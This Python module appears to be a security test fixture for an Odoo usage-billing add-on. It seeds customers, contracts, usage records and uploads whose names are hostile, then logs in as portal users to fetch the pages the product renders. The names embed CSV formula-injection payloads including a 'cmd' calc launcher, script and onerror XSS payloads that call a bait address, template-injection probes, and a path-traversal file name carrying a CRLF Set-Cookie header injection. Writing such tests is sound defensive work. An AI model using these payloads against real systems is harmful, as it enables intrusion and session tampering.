"""A customer whose every text is hostile, and people who log in and fetch what the product writes of it."""

import base64
import csv
import http.cookiejar
import io
import re
import time
import urllib.error
import urllib.parse
import urllib.request
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

from odoo import Command

from . import world

PREFIXES = ("=", "+", "-", "@", "\t=", "\r=", "=cmd|' /C calc'!A0|", "\uff1d", " =")
PATIENCE_SECONDS = 120


class Texts:
    """Texts that would be a formula in a sheet, and a script in a page."""

    def __init__(self, bait):
        self._bait = bait
        self._count = 0

    def __call__(self, label):
        """The next one; `label` is in it."""
        self._count += 1
        prefix = PREFIXES[self._count % len(PREFIXES)]
        call, address = f'HYPERLINK("{self._bait.address}")', self._bait.address
        script = f"<script>fetch('{address}')</script><img src='{address}' onerror='fetch(`{address}`)'>"
        return f"{prefix}{call}{label}\"'>{script}{{{{7*191}}}}${{7*191}}"


def prepare(env, bait):
    """{name: id} of what is fetched later; one customer is hostile, the other has a secret."""
    text = Texts(bait)
    metric, source, card, product = world.prepare(env)
    metric.name, card.name, product.name = text("metric"), text("card"), text("product")
    source.name = text("source")
    made, people = {}, {}
    for code in ("hostile", "other"):
        is_hostile = code == "hostile"
        say = text if is_hostile else (lambda label: f"OTHERS {label}")
        partner = env["res.partner"].create({"name": say("customer"), "email": f"{code}@example.com"})
        people[code] = _portal_user(env, partner, code)
        contract = _contract(env, partner, metric, card, product, say)
        contract.message_subscribe(partner_ids=partner.ids)
        made[code] = contract.id
        _subjects(env, contract, partner, say, is_hostile)
    _use(env, source, text)
    env["usage.billing.run"].create({"date_ref": _first(0)}).action_start()
    moves = env["contract.contract"].browse(made["hostile"])._get_related_invoices()
    made["invoice"] = moves[:1].id
    return made | _mediation(_staff(env), text)


def _portal_user(env, partner, login):
    return (
        env["res.users"]
        .with_context(no_reset_password=True)
        .create(
            {
                "name": partner.name,
                "login": login,
                "password": f"{login} portal",
                "partner_id": partner.id,
                "group_ids": [Command.set(env.ref("base.group_portal").ids)],
            }
        )
    )


def _staff(env):
    """The environment of somebody who manages usage: uploads are seen by who made them."""
    groups = env.ref("base.group_user") + env.ref("odoo_usage_billing.group_usage_manager")
    staff = (
        env["res.users"]
        .with_context(no_reset_password=True)
        .create({"name": "Staff", "login": "staff", "password": "staff portal", "group_ids": [Command.set(groups.ids)]})
    )
    return env(user=staff)


def _first(months):
    """The first day of the month so many months ago."""
    first = date.today().replace(day=1)
    for _month in range(months):
        first = (first - timedelta(days=1)).replace(day=1)
    return first


def _contract(env, partner, metric, card, product, say):
    line = {
        "name": say("line"),
        "product_id": product.id,
        "usage_metric_id": metric.id,
        "usage_rate_card_id": card.id,
        "recurring_invoicing_type": "post-paid",
        "date_start": _first(1),
    }
    return env["contract.contract"].create(
        {
            "name": say("contract"),
            "code": say("code"),
            "partner_id": partner.id,
            "contract_type": "sale",
            "line_recurrence": True,
            "usage_tz": "UTC",
            "contract_line_ids": [Command.create(line)],
        }
    )


def _subjects(env, contract, partner, say, is_hostile):
    person = env["res.partner"].create({"name": say("person"), "parent_id": partner.id})
    for number in range(3):
        subject = env["usage.subject"].create(
            {
                "code": f"{say('serial')[:120]}{number}" if number else f"{'A' if is_hostile else 'B'}-00000",
                "name": say("device"),
                "location": say("location"),
                "note": say("note"),
                "end_user_id": person.id,
            }
        )
        env["usage.assignment"].create(
            {
                "subject_id": subject.id,
                "contract_line_id": contract.contract_line_ids.id,
                "start_at": datetime(2000, 1, 1),
            }
        )


def _use(env, source, text):
    from odoo.addons.odoo_usage_billing.store import UsageRecord

    records = []
    for subject in env["usage.subject"].search([]):
        for month in (0, 1):
            at = datetime.combine(_first(month), datetime.min.time(), timezone.utc) + timedelta(hours=1)
            records.append(
                UsageRecord(len(records), f"{subject.id}-{month}", subject.code, "units", at, Decimal(700 + subject.id))
            )
    bad = UsageRecord(len(records), text("id")[:200], text("unknown"), text("metric"), at, Decimal(1))
    env["usage.batch"].create({"name": text("batch"), "source_id": source.id})._store([*records, bad])


def _mediation(env, text):
    """An upload with refused rows, a template, a profile, each with hostile names."""
    definition = {
        "format": "csv",
        "subject": "serial",
        "external_id": {"column": "id"},
        "time": "at",
        "measures": [{"metric": {"constant": "units"}, "quantity": "qty"}],
    }
    profile = env["usage.profile"].create(
        {
            "name": text("profile"),
            "description": text("description"),
            "format": "csv",
            "is_advanced": True,
            "definition": definition,
        }
    )
    source = env["usage.source"].create(
        {"name": text("file source"), "code": "file-attack", "transport": "file", "profile_id": profile.id, "tz": "UTC"}
    )
    target = io.StringIO()
    writer = csv.writer(target)
    writer.writerow(["id", "serial", "at", "qty", text("header")])
    for _row in range(20):
        writer.writerow([text("id"), text("serial"), text("time"), text("quantity"), text("more")])
    upload = env["usage.upload"].create(
        {
            "source_id": source.id,
            "file": base64.b64encode(target.getvalue().encode()),
            "file_name": "../../../../etc/" + text("file").replace("\r", "") + "\r\nSet-Cookie: evil=1\r\n.csv",
        }
    )
    upload.action_preview()
    again = upload.copy({"file": upload.file, "file_name": upload.file_name})
    again.action_preview()
    again.action_confirm()
    contract = env["contract.contract"].search([("name", "like", "contract")], limit=1)
    fields = env["usage.template"]._fields
    values = {
        name: value
        for name, value in (
            ("source_id", source.id),
            ("contract_id", contract.id),
            ("contract_ids", [Command.set(contract.ids)]),
        )
        if name in fields
    }
    template = env["usage.template"].create(values)
    return {"upload": upload.id, "batch": again.batch_id.id, "template": template.id, "profile": profile.id}


class Visitor:
    """Somebody with a browser's manners: cookies, redirects, forms."""

    def __init__(self, server, login):
        self.base = f"http://127.0.0.1:{server.port}"
        self._opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))
        _status, _head, page, _took = self.get("/web/login")
        token = re.search(rb'name="csrf_token" value="([^"]+)"', page).group(1).decode()
        form = {"login": login, "password": f"{login} portal", "csrf_token": token}
        _status, _head, page, _took = self.get("/web/login", urllib.parse.urlencode(form).encode())
        if b"csrf_token" in page and b'name="password"' in page:
            raise AssertionError(f"{login} cannot log in")

    def get(self, path, data=None, **headers):
        """(status, headers, content, seconds)."""
        asked = urllib.request.Request(self.base + path, data, headers)
        began = time.monotonic()
        try:
            with self._opener.open(asked, timeout=PATIENCE_SECONDS) as answer:
                return answer.status, answer.headers, answer.read(), time.monotonic() - began
        except urllib.error.HTTPError as error:
            return error.code, error.headers, error.read(), time.monotonic() - began
